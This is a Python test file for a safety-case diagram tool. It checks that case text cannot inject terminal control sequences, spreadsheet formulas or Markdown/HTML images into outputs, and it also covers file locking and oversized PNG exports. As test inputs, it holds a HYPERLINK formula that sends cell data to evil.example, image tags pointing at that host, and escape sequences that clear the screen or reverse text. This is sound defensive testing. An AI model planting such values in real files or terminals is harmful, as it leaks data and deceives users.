"""What a shared case can do to the outputs: a word with no spaces, escapes for the terminal,
formulas for a spreadsheet, a picture too large to rasterise, many writers at once."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from factories import hazard_case

from gsn_studio.cli import main
from gsn_studio.cli.common import terminal_text
from gsn_studio.export.figure import ExportOptions, make_svg
from gsn_studio.export.raster import (
    MAX_PIXELS,
    MAX_SIDE,
    RasterTooLarge,
    check_png_size,
    png_size,
)
from gsn_studio.export.register_table import csv_cell, markdown_cell
from gsn_studio.io import CaseFileError, load_case, save_case
from gsn_studio.io.lock import case_lock, lock_path
from gsn_studio.model import Case, Evidence, NodeType, Position, Verification
from gsn_studio.notation import wrap
from gsn_studio.notation.geometry import TEXT_SIZE
from gsn_studio.notation.metrics import text_width
from gsn_studio.notation.wrap import MAX_LINES, wrap_text


@pytest.fixture
def measured(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Counts the characters line breaking measures, the measure of its work."""
    tally = [0]
    real_char, real_text = wrap.char_mils, wrap.text_mils

    def counting_char(char: str, bold: bool = False) -> int:
        tally[0] += 1
        return real_char(char, bold)

    def counting_text(text: str, bold: bool = False) -> int:
        tally[0] += len(text)
        return real_text(text, bold)

    monkeypatch.setattr(wrap, "char_mils", counting_char)
    monkeypatch.setattr(wrap, "text_mils", counting_text)
    return tally


@pytest.mark.parametrize("length", [10_000, 100_000, 9_000_000])
def test_a_long_word_is_wrapped_in_work_bounded_by_the_line_limit(
    measured: list[int], length: int
) -> None:
    """A word with no spaces is measured once per character, up to the line limit only."""
    lines = wrap_text("x" * length, 190, TEXT_SIZE)
    assert len(lines) == MAX_LINES
    assert lines[-1].endswith("…")
    assert all(text_width(line, TEXT_SIZE) <= 190 for line in lines[:-1])
    shown = sum(len(line) for line in lines)
    assert measured[0] <= 3 * shown + 100


def test_many_short_words_are_measured_once_each(measured: list[int]) -> None:
    """Spaces do not make wrapping quadratic either: each character is measured about once."""
    text = "a " * 200
    lines = wrap_text(text, 190, TEXT_SIZE)
    assert " ".join(lines).split() == text.split()
    assert measured[0] <= 2 * len(text)


def test_wrapping_keeps_spacing_and_breaks_a_long_word_after_the_line_before() -> None:
    """Spaces between words are kept; a word wider than a line starts a line of its own."""
    assert wrap_text("The pump  stops", 500, TEXT_SIZE) == ["The pump  stops"]
    lines = wrap_text("short " + "y" * 80 + " tail", 100, TEXT_SIZE)
    assert lines[0] == "short"
    assert "".join(lines[1:]).replace(" ", "") == "y" * 80 + "tail"
    assert all(text_width(line, TEXT_SIZE) <= 100 for line in lines)


# --- the terminal: text from a case is shown, never obeyed (issue 12.6) ---------------------

HIDDEN = "\x9b2J\u202eTRUST ME"
"""A C1 control sequence introducer (a terminal's 8-bit ESC [) and a right-to-left override:
both are allowed in a case's text, and a terminal would act on them."""


@pytest.fixture
def case_file(tmp_path: Path) -> Path:
    case = hazard_case()
    case.update_node("G2", statement="Hazard H1 " + HIDDEN)
    path = tmp_path / "case.gsnx"
    save_case(case, path)
    return path


def test_terminal_text_shows_control_characters_as_escapes() -> None:
    """ESC, C1 controls, bidirectional overrides and lone surrogates are written as escapes."""
    assert terminal_text("G\x1b[2J\x1b[32mALL-GOOD") == "G\\x1b[2J\\x1b[32mALL-GOOD"
    assert terminal_text("a\x9bb\u202ec\udcffd\ne\tf") == "a\\x9bb\\u202ec\\udcffd\\x0ae\tf"
    assert terminal_text("Gefährdung 過剰 הערכה") == "Gefährdung 過剰 הערכה"


def _no_controls(text: str) -> bool:
    return not any(unicodedata.category(c) in ("Cc", "Cf") and c not in "\n\t" for c in text)


@pytest.mark.parametrize(
    "command",
    [
        ["comments"],
        ["comments", "--format", "json"],
        ["check"],
        ["check", "--format", "json"],
        ["evidence"],
        ["evidence", "--format", "csv"],
        ["evidence", "--format", "json"],
    ],
)
def test_no_command_writes_a_control_character_from_the_case(
    case_file: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    """Comment text, authors, statements and findings reach the terminal with controls visible."""
    assert main(["comment", str(case_file), "G2", "--author", "Eve\u202e", "--text", HIDDEN]) == 0
    case = load_case(case_file)
    evidence = case.node("Sn1").evidence
    assert evidence is not None
    gone = evidence.model_copy(
        update={
            "reference": "gone " + HIDDEN + ".pdf",
            "verified": Verification(on=dt.date(2026, 1, 11), by="Eve", sha256="0" * 64),
        }
    )
    case.update_node("Sn1", statement="Report " + HIDDEN, evidence=gone)
    save_case(case, case_file)
    capsys.readouterr()
    main([command[0], str(case_file), *command[1:]])
    out = capsys.readouterr().out
    assert _no_controls(out)
    if "json" in command:
        assert HIDDEN in json.dumps(json.loads(out), ensure_ascii=False)  # the same value
    else:
        assert "\\x9b2J\\u202eTRUST ME" in out


# --- text given on the command line (issue 12.7) --------------------------------------------


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (["comment", "{case}", "G2", "--author", "a", "--text", "\x01"], "--text"),
        (["comment", "{case}", "G2", "--author", "\x1b[31m", "--text", "fine"], "--author"),
        (["verify", "{case}", "Sn1", "--by", "\x1b[31m"], "--by"),
        (["comment", "{case}", "G2", "--author", "a", "--text", "caf\udce9"], "--text"),
        (["reply", "{case}", "C1", "--author", "a", "--text", "x\x00y"], "--text"),
    ],
)
def test_control_characters_on_the_command_line_are_refused_in_one_line(
    case_file: Path, capsys: pytest.CaptureFixture[str], args: list[str], option: str
) -> None:
    """Text options a case could not hold end in one line naming the option, exit 2, no save."""
    before = case_file.read_bytes()
    status = main([arg.replace("{case}", str(case_file)) for arg in args])
    err = capsys.readouterr().err
    assert status == 2
    assert len(err.splitlines()) == 1 and option in err and "Traceback" not in err
    assert _no_controls(err)
    assert case_file.read_bytes() == before


def test_bytes_that_are_not_utf8_on_the_command_line_are_refused(case_file: Path) -> None:
    """Invalid UTF-8 in argv (a real process) is refused in one line with exit status 2."""
    # A process: only the system's argv can hold bytes that are not UTF-8.
    result = subprocess.run(
        [sys.executable, "-m", "gsn_studio", "comment", str(case_file), "G2",
         "--author", "a", "--text", b"caf\xe9"],
        capture_output=True,
        check=False,
        env={**os.environ, "LC_ALL": "C.UTF-8"},
        timeout=60,
    )  # fmt: skip
    assert result.returncode == 2
    assert result.stderr.decode().strip() == "gsn-studio: --text is not valid UTF-8 text"


# --- the evidence register in a spreadsheet or a Markdown page (issue 12.12) ----------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _register_case(path: Path) -> None:
    case = hazard_case()
    case.update_node("G2", statement="fine")
    case.update_node("Sn1", statement=FORMULA)
    evidence = case.node("Sn2").evidence
    assert evidence is not None
    case.update_node(
        "Sn2",
        statement='<img src="https://evil.example/t.png"> ![x](https://evil.example/p.png)',
        evidence=evidence.model_copy(update={"reference": "@SUM(1+1)"}),
    )
    save_case(case, path)


def test_csv_cells_cannot_become_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Cells starting with = + - @ get a leading quote and every cell is quoted (OWASP)."""
    path = tmp_path / "case.gsnx"
    _register_case(path)
    assert main(["evidence", str(path), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out)))
    by_id = {row["id"]: row for row in rows}
    assert by_id["Sn1"]["statement"] == "'" + FORMULA
    assert by_id["Sn2"]["reference"] == "'@SUM(1+1)"
    assert all(line.startswith('"') for line in out.splitlines())
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_csv_keeps_plain_numbers() -> None:
    """A negative measured value stays a number; a formula that starts with a sign does not."""
    assert csv_cell("-3.5") == "-3.5" and csv_cell("+2e3") == "+2e3"
    assert csv_cell("-2+3") == "'-2+3" and csv_cell("\tx") == "'\tx" and csv_cell("x=1") == "x=1"


def test_markdown_register_holds_no_tag_or_image(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """HTML is escaped and Markdown's image and link syntax is shown literally."""
    path = tmp_path / "case.gsnx"
    _register_case(path)
    assert main(["evidence", str(path), "--format", "md"]) == 0
    out = capsys.readouterr().out
    assert "<" not in out and "![" not in out and not re.search(r"(?<!\\)\]\(", out)
    assert '&lt;img src="https://evil.example/t.png"&gt;' in out
    assert "\\!\\[x\\](https://evil.example/p.png)" in out
    assert markdown_cell("a | b & <c>") == "a \\| b &amp; &lt;c&gt;"


# --- many writers at once (issue 12.9) -------------------------------------------------------

WRITERS = 20


def _run_all(commands: list[list[str]]) -> list[subprocess.CompletedProcess[str]]:
    """Start every command before waiting for any, as 20 reviewers' scripts would."""
    # Processes: the file lock is between processes, so only processes can race for it.
    started = [
        subprocess.Popen(
            [sys.executable, "-m", "gsn_studio", *command],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for command in commands
    ]
    results = []
    for process in started:
        out, err = process.communicate(timeout=300)
        results.append(subprocess.CompletedProcess(process.args, process.returncode, out, err))
    return results


@pytest.mark.slow  # 20 processes racing for one file
def test_concurrent_comments_are_all_kept(case_file: Path) -> None:
    """20 `comment` runs at once on one file: every comment that reported success is in it."""
    results = _run_all(
        [
            ["comment", str(case_file), "G2", "--author", f"r{n}", "--text", f"note {n}"]
            for n in range(WRITERS)
        ]
    )
    assert [r.returncode for r in results] == [0] * WRITERS, [r.stderr for r in results]
    posted = {r.stdout.strip() for r in results}
    kept = {comment.id for comment in load_case(case_file).comments}
    assert len(posted) == WRITERS and posted <= kept
    assert [p.name for p in case_file.parent.iterdir()] == [case_file.name]


@pytest.mark.slow  # 20 processes racing for one file
def test_concurrent_verifications_are_all_kept(tmp_path: Path) -> None:
    """20 `verify` runs at once, each on its own solution: every verification is in the file."""
    case = hazard_case()
    (tmp_path / "evidence").mkdir()
    ids = []
    for n in range(WRITERS):
        (tmp_path / "evidence" / f"r{n}.txt").write_text(f"result {n}")
        node = case.add_node(
            NodeType.SOLUTION,
            f"report {n}",
            evidence=Evidence(reference=f"evidence/r{n}.txt", date=dt.date(2026, 1, 1)),
        )
        case.connect("G3", node.id)
        ids.append(node.id)
    path = tmp_path / "case.gsnx"
    save_case(case, path)
    results = _run_all([["verify", str(path), node_id, "--by", "Ann"] for node_id in ids])
    assert [r.returncode for r in results] == [0] * WRITERS, [r.stderr for r in results]
    saved = load_case(path)
    for node_id in ids:
        evidence = saved.node(node_id).evidence
        assert evidence is not None and evidence.verified is not None, node_id


def test_a_lock_is_taken_again_by_its_holder_and_waits_for_another(tmp_path: Path) -> None:
    """The holder may lock again (save inside a command's lock); another process waits."""
    path = tmp_path / "case.gsnx"
    save_case(hazard_case(), path)
    probe = (
        "import sys, fcntl; f = open(sys.argv[1], 'a');"
        "fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)"
    )
    with case_lock(path):
        save_case(hazard_case(), path)  # does not deadlock
        # A process: a lock held by this process is only seen as held from another one.
        held = subprocess.run(
            [sys.executable, "-c", probe, str(lock_path(path))], check=False, capture_output=True
        )
        assert held.returncode != 0  # BlockingIOError: someone holds it
    assert not lock_path(path).exists()


# --- saving: links, leftovers, and what verify says (minors) --------------------------------


def test_saving_through_a_symbolic_link_writes_the_file_it_points_to(tmp_path: Path) -> None:
    """A case opened through a link is saved into its target; the link stays a link."""
    real = tmp_path / "real" / "case.gsnx"
    real.parent.mkdir()
    save_case(hazard_case(), real)
    link = tmp_path / "link.gsnx"
    link.symlink_to(real)
    case = load_case(link)
    case.update_node("G2", statement="Changed through the link")
    save_case(case, link)
    assert link.is_symlink()
    assert load_case(real).node("G2").statement == "Changed through the link"
    assert sorted(p.name for p in real.parent.iterdir()) == ["case.gsnx"]


def test_a_save_removes_what_a_dead_process_left_at_once(tmp_path: Path) -> None:
    """A temporary file named by a process that no longer runs goes at the next save, however
    new; one of a process still running stays."""
    # A process: only a finished process gives an id that is surely not running.
    finished = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                              check=True, capture_output=True, text=True)  # fmt: skip
    dead = tmp_path / f".case.gsnx.{finished.stdout.strip()}.abc123.tmp"
    alive = tmp_path / f".case.gsnx.{os.getppid()}.def456.tmp"
    for leftover in (dead, alive):
        leftover.write_bytes(b"<half a case")
    save_case(hazard_case(), tmp_path / "case.gsnx")
    assert not dead.exists() and alive.exists()


def test_verify_says_verified_only_after_the_save_succeeded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """When the save fails, verify prints the one-line error and no "verified" line."""
    path = tmp_path / "case.gsnx"
    save_case(hazard_case(), path)
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / "h1.pdf").write_bytes(b"%PDF")

    def failing_save(case: object, target: Path) -> None:
        raise CaseFileError(target, "not saved, the previous version is untouched: disk full")

    monkeypatch.setattr("gsn_studio.cli.evidence.save_case", failing_save)
    assert main(["verify", str(path), "Sn1", "--by", "Ann"]) == 2
    captured = capsys.readouterr()
    assert "verified" not in captured.out
    assert "disk full" in captured.err


def test_evidence_outside_the_folder_is_named_rightly_when_allowed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """With --allow-outside, a missing outside file is "no such file at PATH", and an
    unreadable one never suggests --allow-outside again."""
    case = hazard_case()
    evidence = case.node("Sn1").evidence
    assert evidence is not None
    case.update_node("Sn1", evidence=evidence.model_copy(update={"reference": "../gone.pdf"}))
    (tmp_path / "case").mkdir()
    (tmp_path / "folder.pdf").mkdir()  # not a file: unreadable
    evidence = case.node("Sn1").evidence
    path = tmp_path / "case" / "case.gsnx"
    save_case(case, path)
    assert main(["verify", str(path), "Sn1", "--allow-outside"]) == 2
    err = capsys.readouterr().err
    assert f"no such file at {tmp_path / 'gone.pdf'}" in err and "case's folder" not in err
    case.update_node("Sn1", evidence=evidence.model_copy(
        update={"reference": "../folder.pdf",
                "verified": Verification(on=dt.date(2026, 1, 2), sha256="0" * 64)}))  # fmt: skip
    save_case(case, path)
    main(["check", str(path), "--allow-outside"])
    out = capsys.readouterr().out
    assert "folder.pdf" in out and "--allow-outside" not in out


# --- pictures too large to rasterise (issue 12.8) --------------------------------------------


def far_apart(path: Path, distance: float, diagonal: bool = False) -> Path:
    """Two linked goals `distance` points apart (and as far down, when diagonal)."""
    case = Case(name="far")
    top = case.add_node(NodeType.GOAL, "top")
    far = case.add_node(NodeType.GOAL, "far away")
    case.connect(top.id, far.id)
    case.update_node(top.id, position=Position(x=-distance / 2, y=0))
    case.update_node(far.id, position=Position(x=distance / 2, y=distance if diagonal else 0))
    save_case(case, path)
    return path


@pytest.mark.parametrize(
    "picture",
    [(2e9, False, "2", False), (16_000, True, "2", True), (8_000, False, "20", True)],
)
def test_a_png_too_large_is_refused_before_drawing(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    picture: tuple[float, bool, str, bool],
) -> None:
    """Over 100 megapixels or 32,767 pixels a side: one line that says so and what to do
    instead, exit 2, no file, and cairo never asked for the memory."""
    import cairosvg

    def no_drawing(**_: object) -> bytes:
        raise AssertionError("cairo was asked to draw it")

    monkeypatch.setattr(cairosvg, "svg2png", no_drawing)
    distance, diagonal, scale, smaller = picture
    case_path = far_apart(tmp_path / "far.gsnx", distance, diagonal)
    target = tmp_path / "far.png"
    assert main(["export", str(case_path), "-o", str(target), "--scale", scale]) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "pixels" in err and "SVG or PDF" in err
    assert ("smaller scale" in err) is smaller
    assert not target.exists()


@pytest.mark.parametrize("suffix", ["svg", "pdf"])
def test_vector_figures_of_huge_coordinates_are_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    """Nodes two thousand million points apart still export as SVG and PDF."""
    case_path = far_apart(tmp_path / "far.gsnx", 2e9)
    target = tmp_path / f"far.{suffix}"
    assert main(["export", str(case_path), "-o", str(target)]) == 0
    assert target.stat().st_size > 0


def test_the_largest_allowed_scale_fits(tmp_path: Path) -> None:
    """The scale the message suggests gives a PNG within the limits."""
    svg = make_svg(load_case(far_apart(tmp_path / "far.gsnx", 8_000)), ExportOptions())
    with pytest.raises(RasterTooLarge, match=r"at most ([\d.]+)") as refused:
        check_png_size(svg, 20)
    suggested = float(re.search(r"at most ([\d.]+)", str(refused.value)).group(1))  # type: ignore[union-attr]
    width, height = png_size(svg, suggested)
    assert width <= MAX_SIDE and height <= MAX_SIDE and width * height <= MAX_PIXELS
    check_png_size(svg, suggested)


def test_a_login_a_case_cannot_hold_is_not_recorded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """verify without --by, under a login holding an escape, records no name: no traceback."""
    path = tmp_path / "case.gsnx"
    save_case(hazard_case(), path)
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / "h1.pdf").write_bytes(b"%PDF")
    monkeypatch.setattr("getpass.getuser", lambda: "eve\x1b[2J")
    assert main(["verify", str(path), "Sn1"]) == 0
    evidence = load_case(path).node("Sn1").evidence
    assert evidence is not None and evidence.verified is not None
    assert evidence.verified.by == ""


def test_an_output_name_that_is_not_utf8_is_reported_visibly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Writing to a file whose name holds undecodable bytes prints its name with escapes."""
    path = tmp_path / "case.gsnx"
    save_case(hazard_case(), path)
    target = tmp_path / "caf\udce9.yaml"
    assert main(["convert", str(path), str(target)]) == 0
    assert "caf\\udce9.yaml" in capsys.readouterr().out
